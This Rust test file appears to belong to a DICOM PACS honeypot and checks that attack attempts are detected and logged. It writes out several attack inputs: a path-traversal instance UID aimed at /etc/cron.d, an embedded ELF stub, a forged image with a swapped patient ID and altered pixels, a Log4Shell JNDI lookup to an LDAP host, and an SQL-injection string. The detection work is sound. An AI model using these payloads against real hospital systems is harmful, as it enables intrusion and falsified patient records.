//! What attackers send to an archive: recorded for what it is, answered as the product answers.

use std::sync::Arc;

use bytes::Bytes;

use super::operations::identifier;
use super::support::{Peer, STUDY_FIND, message, proposal, request};
use crate::event::Observation;
use crate::event::observation::{Change, RecordKind};
use crate::imaging::Imaging;
use crate::session::bench::{Bench, NOW};
use crate::wire::dicom::command::field;
use crate::wire::dicom::dataset::{Charset, DataSet, Tag, TransferSyntax, Vr, tags, uids};
use crate::world::{Modality, StudyFilter};

const SYNTAX: TransferSyntax = TransferSyntax::ExplicitLittle;
const CLASS: &str = uids::SECONDARY_CAPTURE_IMAGE_STORAGE;

/// Stores an object under the UID that the command names; gives the status and what was told.
fn store(bench: &Arc<Bench>, class: &str, instance: &str, object: &DataSet) -> (u16, Vec<Observation>) {
    let mut peer = Peer::connect(bench, "pacs");
    peer.send(&proposal(&[class], SYNTAX, 16384, &[]));
    peer.take();
    bench.told();
    let mut command = request(field::C_STORE, class);
    command.sop_instance = Some(Bytes::from(instance.to_owned()));
    peer.send(&message(1, &command, Some(object), SYNTAX));
    let (answer, _) = peer.messages().pop().expect("an answer");
    (answer.status.unwrap(), bench.told())
}

fn object(instance: &str) -> DataSet {
    let mut set = DataSet::new();
    set.put_str(tags::SOP_CLASS_UID, CLASS);
    set.put_str(tags::SOP_INSTANCE_UID, instance);
    set.put_str(tags::STUDY_INSTANCE_UID, "1.2.3.1");
    set.put_str(tags::SERIES_INSTANCE_UID, "1.2.3.2");
    set
}

fn attempts(told: &[Observation]) -> Vec<&str> {
    let attempts = told.iter().filter_map(|told| match told {
        Observation::ExploitAttempt { weakness, .. } => Some(weakness.as_str()),
        _ => None,
    });
    attempts.collect()
}

#[test]
fn a_path_for_an_instance_is_the_known_weakness() {
    let bench = Arc::new(Bench::new());
    let uid = "../../../../etc/cron.d/pacs";
    let (_, told) = store(&bench, CLASS, uid, &object(uid));
    assert_eq!(attempts(&told), ["CVE-2022-2119"]);
    assert!(told.iter().any(|told| matches!(told, Observation::Transfer { .. })), "and the object is kept");
}

#[test]
fn a_program_in_a_private_element_is_kept_by_itself() {
    let bench = Arc::new(Bench::new());
    let mut hidden = object("1.2.3.4");
    let elf = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 57]].concat();
    hidden.put_bytes(Tag(0x0009, 0x1010), Vr::OB, elf.into());
    let (status, told) = store(&bench, CLASS, "1.2.3.4", &hidden);
    assert_eq!((status, attempts(&told)), (0, vec!["program-in-object"]));
    let names = told.iter().filter_map(|told| match told {
        Observation::Transfer { name, size, .. } => Some((name.as_untrusted(), *size)),
        _ => None,
    });
    assert_eq!(names.collect::<Vec<_>>()[0], ("application/x-elf in (0009,1010) of 1.2.3.4", 64));
    let media = told.iter().find_map(|told| match told {
        Observation::Content { media, found, .. } => Some((media.as_str(), found.len())),
        _ => None,
    });
    assert_eq!(media, Some(("application/dicom", 1)));
}

#[test]
fn an_object_that_is_the_hospitals_with_another_patient_and_picture_is_tampering() {
    let bench = Arc::new(Bench::new());
    let view = bench.world.at(NOW.parse().unwrap());
    let day = Some(jiff::civil::date(2026, 2, 27));
    let modalities = vec![Modality::DX];
    let study =
        view.studies(&StudyFilter { from: day, to: day, modalities, ..StudyFilter::default() }).remove(0);
    let series = view.series(&study).remove(0);
    let instance = view.instances(&study, &series).remove(0);
    let drawn = Imaging::default().object(&view, &study, &series, &instance, SYNTAX, Charset::Utf8);
    let mut forged = DataSet::decode(&drawn.bytes, SYNTAX).unwrap();
    forged.put_str(tags::PATIENT_ID, "0000000001");
    let columns = usize::from(forged.u16(tags::COLUMNS).unwrap());
    let mut pixels = forged.bytes(tags::PIXEL_DATA).unwrap().to_vec();
    for row in 10..12 {
        for column in 20..24 {
            pixels[2 * (row * columns + column)] ^= 0xFF;
        }
    }
    forged.put_bytes(tags::PIXEL_DATA, Vr::OW, pixels.into());
    let (status, told) = store(&bench, &instance.sop_class, &instance.uid, &forged);
    assert_eq!(status, 0);
    let Some(Observation::Tampering { subject, id, changes }) =
        told.iter().find(|told| matches!(told, Observation::Tampering { .. }))
    else {
        panic!("{told:?}")
    };
    assert_eq!((*subject, id), (RecordKind::Instance, &instance.uid));
    let fields: Vec<_> = changes.iter().map(|change: &Change| change.field.as_str()).collect();
    assert_eq!(fields, ["PatientID", "pixels"], "{changes:?}");
    let patient = view.patient(study.patient).unwrap();
    assert_eq!(
        (changes[0].from.as_str(), changes[0].to.as_untrusted()),
        (patient.mrn.as_str(), "0000000001")
    );
    assert_eq!(changes[1].to.as_untrusted(), "8 changed, rows 10 to 11, columns 20 to 23");
}

#[test]
fn a_foreign_object_in_a_study_of_the_hospital_is_tampering_with_the_study() {
    let bench = Arc::new(Bench::new());
    let view = bench.world.at(NOW.parse().unwrap());
    let day = Some(jiff::civil::date(2026, 2, 27));
    let study = view.studies(&StudyFilter { from: day, to: day, ..StudyFilter::default() }).remove(0);
    let mut added = object("1.2.3.9");
    added.put_str(tags::STUDY_INSTANCE_UID, &study.uid);
    let (_, told) = store(&bench, CLASS, "1.2.3.9", &added);
    assert!(
        told.iter()
            .any(|told| matches!(told, Observation::Tampering { subject: RecordKind::Study, id, changes }
            if *id == study.uid && changes.is_empty())),
        "{told:?}"
    );
}

#[test]
fn keys_for_an_interpreter_are_attempts_and_find_nothing() {
    let bench = Arc::new(Bench::new());
    let mut peer = Peer::connect(&bench, "pacs");
    peer.send(&proposal(&[STUDY_FIND], SYNTAX, 16384, &[]));
    peer.take();
    let keys = [(tags::PATIENT_NAME, "${jndi:ldap://10.0.0.1/a}"), (tags::PATIENT_ID, "' or '1'='1")];
    peer.send(&message(1, &request(field::C_FIND, STUDY_FIND), Some(&identifier("STUDY", &keys)), SYNTAX));
    let answers = peer.messages();
    assert_eq!(answers.iter().map(|(answer, _)| answer.status).collect::<Vec<_>>(), [Some(0)]);
    assert_eq!(attempts(&bench.told()), ["CVE-2021-44228", "sql-injection"]);
}
